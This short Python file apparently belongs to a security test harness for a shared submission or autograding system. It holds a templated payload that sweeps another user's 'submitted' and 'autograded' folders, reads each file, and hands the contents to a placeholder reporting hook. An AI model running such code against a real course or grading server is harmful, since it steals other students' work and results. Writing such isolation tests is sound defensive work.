"""Read what the others handed in."""

FIRST = """{{TELL}}
import glob

for _path in glob.glob("{{VICTIM}}/submitted/*/*/*") + glob.glob("{{VICTIM}}/autograded/*/*/*"):
    try:
        with open(_path, "rb") as _file:
            tell(_file.read(1 << 20))
    except OSError:
        pass
"""
